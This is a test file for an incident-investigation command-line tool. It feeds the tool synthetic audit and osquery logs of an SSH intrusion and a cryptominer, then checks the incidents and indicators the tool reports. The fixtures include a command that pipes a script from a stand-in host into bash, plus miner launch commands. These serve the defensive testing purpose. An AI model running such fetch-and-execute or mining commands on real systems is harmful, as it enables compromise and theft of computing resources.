import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { incidentSchema, type Incident } from '../src/model/incident.ts';
import { beewolf, temporaryFolder } from './cli/beewolf.ts';
import { violationsInText } from './contract.ts';

async function investigated(file: string, lines: readonly string[]): Promise<readonly Incident[]> {
  const folder = temporaryFolder();
  mkdirSync(join(folder, 'logs'));
  writeFileSync(join(folder, 'logs', file), `${lines.join('\n')}\n`);
  const ran = await beewolf(['investigate', 'logs', '--out', 'out'], { cwd: folder });
  expect(ran.status, ran.stderr).toBe(0);
  return readdirSync(join(folder, 'out'))
    .filter((entry) => entry !== 'summary.json')
    .map((uid) => {
      const text = readFileSync(join(folder, 'out', uid, 'incident.json'), 'utf8');
      expect(violationsInText('incident', text)).toEqual([]);
      return incidentSchema.parse(JSON.parse(text));
    });
}

const textsOf = (incident: Incident | undefined): readonly string[] => incident?.timeline.map(({ text }) => text) ?? [];
const indicatorsOf = (incident: Incident | undefined): readonly string[] =>
  incident?.indicators.map(({ type, value }) => `${type} ${value}`) ?? [];

const wallet = `4${'A'.repeat(94)}`;
const thief = '203.0.113.77';
const pool = '203.0.113.120';

/** Seconds after 2026-03-08T22:00:00Z. */
const at = (seconds: number): number => Date.UTC(2026, 2, 8, 22) / 1000 + seconds;
const day = 86_400;

const encoded = (word: string): string =>
  /["\s]/.test(word) ? Buffer.from(word).toString('hex').toUpperCase() : `"${word}"`;

/** A process as the audit daemon writes it that resolves no names and names no machine. */
function process(seconds: number, words: readonly string[], exe = words[0] ?? ''): readonly string[] {
  const stamp = `msg=audit(${at(seconds)}.000:${1000 + seconds})`;
  return [
    `type=SYSCALL ${stamp}: arch=c000003e syscall=59 success=yes exit=0 a0=1 items=2 ppid=1 pid=7 auid=1002 uid=1002 gid=1002 euid=1002 suid=1002 fsuid=1002 egid=1002 sgid=1002 fsgid=1002 tty=pts1 ses=9 comm="x" exe=${encoded(exe)} key="exec"`,
    `type=EXECVE ${stamp}: argc=${words.length} ${words.map((word, index) => `a${index}=${encoded(word)}`).join(' ')}`,
  ];
}

/** A connection by IPv4: the family, the port and the address in hex digits. */
function connection(seconds: number, exe: string, [a, b, c, d]: readonly number[], port: number): readonly string[] {
  const hex = (number: number, digits: number): string => number.toString(16).toUpperCase().padStart(digits, '0');
  const stamp = `msg=audit(${at(seconds)}.000:${1000 + seconds})`;
  const address = [a, b, c, d].map((part) => hex(part ?? 0, 2)).join('');
  return [
    `type=SYSCALL ${stamp}: arch=c000003e syscall=42 success=yes exit=0 a0=3 items=0 ppid=1 pid=8 auid=1002 uid=1002 gid=1002 euid=1002 suid=1002 fsuid=1002 egid=1002 sgid=1002 fsgid=1002 tty=pts1 ses=9 comm="x" exe="${exe}" key="net"`,
    `type=SOCKADDR ${stamp}: saddr=0200${hex(port, 4)}${address}0000000000000000`,
  ];
}

const steps = ['USER_AUTH', 'USER_ACCT'].map(
  (type, index) =>
    `type=${type} msg=audit(${at(0)}.000:${900 + index}): pid=400 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM acct="deploy" exe="/usr/sbin/sshd" hostname=${thief} addr=${thief} terminal=ssh res=success'`,
);
const signIn = [
  ...steps,
  `type=USER_START msg=audit(${at(0)}.000:910): pid=400 uid=0 auid=1002 ses=9 msg='op=PAM:session_open acct="deploy" exe="/usr/sbin/sshd" hostname=${thief} addr=${thief} terminal=ssh res=success'`,
  `type=USER_LOGIN msg=audit(${at(0)}.000:911): pid=400 uid=0 auid=1002 ses=9 msg='op=login id=1002 exe="/usr/sbin/sshd" hostname=${thief} addr=${thief} terminal=/dev/pts/1 res=success'`,
];

describe('where the audit daemon alone writes, and names no machine', () => {
  test('the sign-in is the entry, and no more is said of it than the records tell', async () => {
    const lines = [
      ...signIn,
      ...process(60, ['bash', '-c', `curl -s http://203.0.113.99/i.sh | bash`], '/usr/bin/bash'),
      ...process(90, [
        '/var/tmp/.cache/netd',
        '-o',
        `${pool}:443`,
        '-u',
        wallet,
        '-p',
        'two words',
        '--randomx-1gb-pages',
      ]),
      ...connection(100, '/usr/bin/curl', [198, 51, 100, 80], 443),
    ];
    const incidents = await investigated('audit.log', lines);
    expect(incidents).toHaveLength(1);
    const [incident] = incidents;
    expect(incident?.entry).toMatchObject({ how: 'USER_LOGIN', address: thief });
    expect(incident?.root?.identity.name).toBe('deploy');
    expect(incident?.identities.map(({ role }) => role)).toEqual(['intruder']);
    expect(incident?.root_cause?.text).toContain('Whether by a key or a password the record does not tell');
    expect(indicatorsOf(incident)).toEqual(expect.arrayContaining([`wallet ${wallet}`, `ip ${pool}`]));
    expect(indicatorsOf(incident)).not.toContain('ip 198.51.100.80');
    expect(textsOf(incident)).toContain('deploy spoke to 198.51.100.80:443 by /usr/bin/curl on unnamed-machine');
  });
});

const osquery = (seconds: number, name: string, columns: Readonly<Record<string, string>>): string =>
  JSON.stringify({
    name,
    hostIdentifier: 'db-1',
    unixTime: at(seconds),
    action: 'added',
    columns: { time: String(at(seconds)), ...columns },
  });
const started = (seconds: number, path: string, cmdline: string): string =>
  osquery(seconds, 'process_events', { pid: '77', path, cmdline, uid: '0', auid: '4294967295' });
const changed = (seconds: number, path: string): string =>
  osquery(seconds, 'file_events', { action: 'UPDATED', target_path: path, uid: '999', category: 'etc' });

describe('where a sensor alone writes', () => {
  test('what tools that set up machines change is no incident', async () => {
    const days = [-3, -2, -1, 0].flatMap((each) =>
      ['/etc/cron.d/sysstat', '/etc/sudoers.d/10-admins', '/home/deploy/.ssh/authorized_keys'].map((path) =>
        changed(each * day, path),
      ),
    );
    expect(await investigated('osqueryd.results.log', days)).toEqual([]);
  });

  test('the same beside a miner belongs to it; what the machine runs day by day does not', async () => {
    const routine = [-2 * day, -day, 1800].map((seconds) =>
      started(seconds, '/usr/sbin/logrotate', `logrotate --state /run/${at(seconds)} /etc/logrotate.conf`),
    );
    const mined = [0, 3600].map((seconds) =>
      started(seconds, '/tmp/.x/kdev', `/tmp/.x/kdev -o stratum+tcp://pool.example.net:3333`),
    );
    const incidents = await investigated('osqueryd.results.log', [
      ...routine,
      changed(-5, '/var/spool/cron/root'),
      ...mined,
      osquery(5, 'socket_events', {
        action: 'connect',
        path: '/tmp/.x/kdev',
        pid: '77',
        remote_address: pool,
        remote_port: '3333',
        local_address: '198.51.100.9',
      }),
    ]);
    expect(incidents).toHaveLength(1);
    const [incident] = incidents;
    expect(textsOf(incident)[0]).toBe('db-1 touched the file /var/spool/cron/root on db-1');
    expect(textsOf(incident).join('\n')).not.toContain('logrotate');
    expect(indicatorsOf(incident)).toContain(`ip ${pool}`);
    expect(indicatorsOf(incident)).not.toContain('ip 198.51.100.9');
  });
});
